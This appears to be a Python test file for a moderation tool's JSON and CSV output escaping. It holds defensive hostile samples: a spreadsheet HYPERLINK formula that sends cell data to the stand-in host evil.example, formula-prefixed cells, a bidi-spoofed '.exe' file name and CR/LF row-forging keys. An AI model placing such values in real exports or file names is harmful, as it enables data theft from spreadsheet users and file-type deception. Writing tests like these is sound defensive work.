"""Uploader text in the outputs programs read. JSON written by the command line (`audit query`,
`audit export-dsa`, `explain`, `policy render`, `eval compare`) writes DEL, the C1 controls,
U+2028/U+2029 and the bidi controls, which JSON leaves raw, as `\\uXXXX` escapes that decode to
the exact value. CSV text cells (`audit query --format csv`, `scan --format csv`) are escaped as
`safe_line` shows them and never start a spreadsheet formula; numbers stay numbers
(moderator/text.py)."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderator.audit.db.store import AuditStore
from moderator.audit.models import IncomingRecord
from moderator.cli.main import main
from moderator.pipeline.scan_output import CSV_COLUMNS, VerdictLines
from moderator.text import csv_cell, json_text, safe_line
from tests.audit_fixtures import ALPHA, BASE, TOPIC, fill, record
from tests.policy_fixtures import clear_moderator_env
from tests.test_explain import demo
from tests.test_terminal_text import KEY, RATIONALE, SURFACE, hostile

ROOT = Path(__file__).resolve().parent.parent
# Every character JSON leaves raw that a terminal or a line reader acts on.
JSON_RAW = (
    "\x7f"
    + "".join(map(chr, range(0x80, 0xA0)))
    + "\u061c\u200e\u200f"
    + "".join(map(chr, range(0x2028, 0x202F)))
    + "".join(map(chr, range(0x2066, 0x206A)))
)
RAW = re.compile(f"[{JSON_RAW}]")
PLAIN = "Zoë é 日本 写真 صورة 😀"  # non-ASCII text that stays as it is
FORMULA_KEY = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# -- json_text -----------------------------------------------------------------------------


@pytest.mark.parametrize("options", [{}, {"indent": 2}, {"separators": (",", ":")}])
def test_json_text_escapes_what_json_leaves_raw_and_decodes_to_the_same_value(
    options: dict[str, Any],
) -> None:
    doc = {JSON_RAW + PLAIN: [JSON_RAW, PLAIN, "x\r\n\x1b", 1.5, None]}
    text = json_text(doc, **options)
    assert RAW.search(text) is None
    assert json.loads(text) == doc
    assert PLAIN in text  # written as UTF-8, not escaped
    for escape in ("\\u007f", "\\u0085", "\\u009b", "\\u061c", "\\u2028", "\\u202e", "\\u2069"):
        assert escape in text
    assert "\\r\\n\\u001b" in text  # C0 controls: as json.dumps writes them


@pytest.mark.parametrize(
    ("doc", "options"),
    [
        ({"key": "acme/photo.jpg", "n": [1, -2.5, True, None]}, {"indent": 2}),
        ({"b": PLAIN, "a": "x\ny\t"}, {"sort_keys": True, "separators": (",", ":")}),
        ([PLAIN, {"nested": {"deep": "café"}}], {}),
    ],
)
def test_json_text_is_json_dumps_when_nothing_needs_escaping(
    doc: Any, options: dict[str, Any]
) -> None:
    assert json_text(doc, **options) == json.dumps(doc, ensure_ascii=False, **options)


@given(st.text())
def test_json_text_round_trips_any_text(text: str) -> None:
    out = json_text({text: text})
    assert json.loads(out) == {text: text} and RAW.search(out) is None


def test_json_text_escapes_a_lone_surrogate_no_utf8_stream_can_carry() -> None:
    out = json_text("name\udc80.jpg")
    assert out == '"name\\udc80.jpg"' and json.loads(out) == "name\udc80.jpg"
    out.encode("utf-8")  # json.dumps(..., ensure_ascii=False) would leave it raw: this raised


# -- csv_cell ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA_KEY, "'" + FORMULA_KEY),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        (" =1+1", "' =1+1"),  # white space first: still a formula to some spreadsheets
        ("\u00a0 +1", "'\u00a0 +1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width signs, read as ASCII by some spreadsheets
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("a =1", "a =1"),
        ("\t=1+1", "\\t=1+1"),  # a TAB or CR is escaped first: the cell starts with `\`
        ("\r=1+1", "\\r=1+1"),
        ("a\nb", "a\\nb"),
        ("photo\u202egnp.exe", "photo\\u202egnp.exe"),
        ("acme/a=b-c.jpg", "acme/a=b-c.jpg"),
        (PLAIN, PLAIN),
        (-0.25, "-0.25"),  # numbers are not text: never prefixed
        (-3, "-3"),
        (0.7136, "0.7136"),
        (True, "true"),
        (False, "false"),
        (None, ""),
    ],
)
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


# -- audit query, explain: hostile keys, surfaces and rationales ---------------------------


def audit_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, docs: list[dict[str, Any]]) -> Path:
    """A SQLite audit store holding `docs`, named by MODERATOR_AUDIT__URL and nothing else."""
    clear_moderator_env(monkeypatch)
    path = tmp_path / "audit.db"
    with AuditStore.open(f"sqlite:///{path}") as store:
        fill(store, docs)
    monkeypatch.setenv("MODERATOR_AUDIT__URL", f"sqlite:///{path}")
    return path


@pytest.fixture
def hostile_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    acme = demo("acme")
    docs = [hostile("h-err", acme, error=True), hostile("h-ok", acme, error=False)]
    return audit_db(tmp_path, monkeypatch, docs)


def test_audit_query_json_lines_escape_line_breaks_and_bidi_controls(
    hostile_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "audit", "query", "--format", "json")
    assert code == 0, err
    assert RAW.search(out) is None
    assert "gnp.exe" in out and "\\u202egnp.exe" in out and "post\\u2028forged" in out
    lines = out.splitlines()  # breaks at U+2028 and NEL too: one line per row all the same
    assert len(lines) == 2
    docs = [json.loads(line) for line in lines]
    assert {doc["object_key"] for doc in docs} == {KEY}
    assert {doc["surface"] for doc in docs} == {SURFACE}
    rationales = {(d["record"]["verdict"]["assessment"] or {}).get("rationale") for d in docs}
    assert RATIONALE in rationales  # its C1 CSI `\x9b` decoded back


def test_audit_query_csv_cells_are_escaped_one_row_a_line(
    hostile_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "audit", "query", "--format", "csv")
    assert code == 0, err
    assert RAW.search(out) is None
    assert len(out.splitlines()) == 3  # the header and two rows: a key's CR LF forges none
    header, *rows = csv.reader(io.StringIO(out))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert {c["object_key"] for c in cells} == {safe_line(KEY)}
    assert {c["surface"] for c in cells} == {"post\\u2028forged"}


def test_explain_json_escapes_line_breaks_and_bidi_controls(
    hostile_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "explain", "h-ok", "--format", "json")
    assert code == 0, err
    assert RAW.search(out) is None and "\\u202egnp.exe" in out
    doc = json.loads(out)
    assert doc["input"]["key"] == KEY and doc["assessment"]["rationale"] == RATIONALE


# -- audit query --format csv: formulas ----------------------------------------------------


@pytest.fixture
def formula_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    doc = record("f-1", ALPHA, BASE, score=0.25, key=FORMULA_KEY, model_name="@SUM(A1:A9)")
    doc["verdict"]["object"]["bucket"] = "-2+3"
    doc["verdict"]["policy"]["surface"] = doc["context"]["surface"] = "+cmd"
    return audit_db(tmp_path, monkeypatch, [doc])


def test_audit_query_csv_text_never_starts_a_formula_and_numbers_stay(
    formula_db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "audit", "query", "--format", "csv")
    assert code == 0, err
    header, row = csv.reader(io.StringIO(out))
    cells = dict(zip(header, row, strict=True))
    assert cells["object_key"] == "'" + FORMULA_KEY
    assert cells["object_bucket"] == "'-2+3"
    assert cells["surface"] == "'+cmd"
    assert cells["model_name"] == "'@SUM(A1:A9)"
    assert cells["score"] == "0.25"
    for name in ("partition", "offset", "seq", "id"):
        assert cells[name].isdigit(), name
    assert cells["decided_at"] == "2026-11-29T02:00:00Z"
    assert not [v for v in cells.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    code, out, err = run(capsys, "audit", "query", "--format", "json")
    assert json.loads(out)["object_key"] == FORMULA_KEY  # JSON keeps the exact key


# -- scan --format csv ---------------------------------------------------------------------


def verdict(key: str, *, bucket: str = "", score: float | None = 0.5) -> dict[str, Any]:
    """A Verdict v1 document with only the parts the CSV row reads."""
    return {
        "event_id": "scan-0123",
        "tenant_id": "default",
        "decision": "allow",
        "object": {"bucket": bucket, "key": key, "sha256": "ab" * 32},
        "assessment": {"rating": "Safe", "category": "NA: None applying", "score": score},
        "policy": {"version": "6c1f8e8704d0b0c9", "surface": "default"},
        "model": {"engine": "fake", "name": "fake", "smoke_test": True},
        "error": None,
        "source": "model",
        "decided_at": "2026-11-29T02:00:00Z",
    }


def scan_cells(doc: dict[str, Any]) -> dict[str, str]:
    line = VerdictLines("csv").line(doc)
    assert line.count("\n") == 1 and RAW.search(line) is None  # one physical line per verdict
    (row,) = csv.reader(io.StringIO(line))
    return dict(zip(CSV_COLUMNS, row, strict=True))


def test_scan_csv_text_never_starts_a_formula_and_the_score_stays_a_number() -> None:
    cells = scan_cells(verdict(FORMULA_KEY, bucket="@evil", score=-0.5))
    assert cells["object_key"] == "'" + FORMULA_KEY and cells["object_bucket"] == "'@evil"
    assert cells["score"] == "-0.5" and cells["model_smoke_test"] == "true"
    assert cells["sha256"] == "ab" * 32 and cells["decided_at"] == "2026-11-29T02:00:00Z"


def test_scan_csv_escapes_line_breaks_and_bidi_controls_in_keys() -> None:
    cells = scan_cells(verdict("photos/x\r\nforged,row\u202egnp.exe\u2028"))
    assert cells["object_key"] == "photos/x\\r\\nforged,row\\u202egnp.exe\\u2028"
    assert scan_cells(verdict("photos/" + PLAIN))["object_key"] == "photos/" + PLAIN


# -- export-dsa, policy render, eval compare -----------------------------------------------


def test_dsa_statements_escape_bidi_controls_in_operator_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.dsa_fixtures import record as dsa_record

    clear_moderator_env(monkeypatch)
    policies = tmp_path / "policies"
    policies.mkdir()
    shutil.copy(ROOT / "policies" / "default.yaml", policies / "default.yaml")
    (policies / "acme.yaml").write_text("on_error: block\n")
    url = f"sqlite:///{tmp_path / 'audit.db'}"
    monkeypatch.setenv("MODERATOR_AUDIT__URL", url)
    monkeypatch.setenv("MODERATOR_POLICIES__DIR", str(policies))
    monkeypatch.setenv("MODERATOR_DSA_PUID_SALT", "text-salt-0123456789abcdef")
    with AuditStore.open(url) as store:
        assert store.insert([IncomingRecord(TOPIC, 0, 0, dsa_record())]).inserted == 1
    ground = "Terms of service\u2028\u202e.gnp"
    code, out, err = run(capsys, "audit", "export-dsa", "--ground-text", ground)
    assert code == 0, err
    assert RAW.search(out) is None and "\\u2028\\u202e" in out
    (line,) = out.splitlines()
    assert json.loads(line)["incompatible_content_ground"] == ground


def test_policy_render_json_escapes_bidi_controls(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A policy text may hold no such character (refused at validation); a directory name may,
    and the JSON writes it as an escape."""
    clear_moderator_env(monkeypatch)
    policies = tmp_path / "pol\u202eicies"
    policies.mkdir()
    shutil.copy(ROOT / "policies" / "default.yaml", policies / "default.yaml")
    (policies / "kids.yaml").write_text('description: "Kids, café"\n')
    args = ("policy", "render", "kids", "--policies", str(policies), "--format", "json")
    code, out, err = run(capsys, *args)
    assert code == 0, err
    assert RAW.search(out) is None and "\\u202e" in out and "café" in out
    assert any(str(policies) in entry for entry in json.loads(out)["chain"])
    bidi = json.dumps("Kids\u202e.exe")
    (policies / "kids.yaml").write_text(f"description: {bidi}\n")
    code, out, err = run(capsys, *args)
    assert code == 2 and RAW.search(err) is None
    assert "description: holds the control character \\u202e" in err


def test_eval_compare_json_escapes_bidi_controls_in_report_paths(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from moderator.training.dataset import read_dataset
    from moderator.training.metrics import compute
    from moderator.training.predictions import read_predictions

    fixtures = ROOT / "tests" / "fixtures" / "eval"
    samples = read_dataset(fixtures / "dataset.jsonl")
    metrics = compute(samples, read_predictions(fixtures / "predictions.jsonl"), elapsed_s=3.0)
    reports = [tmp_path / "a\u202e", tmp_path / "b\u2028"]
    for report in reports:
        report.mkdir()
        (report / "metrics.json").write_text(json.dumps(metrics), encoding="utf-8")
    code, out, err = run(capsys, "eval", "compare", *map(str, reports), "--format", "json")
    assert code == 0, err
    assert RAW.search(out) is None and "a\\u202e" in out
    assert json.loads(out)["sources"] == [str(r) for r in reports]
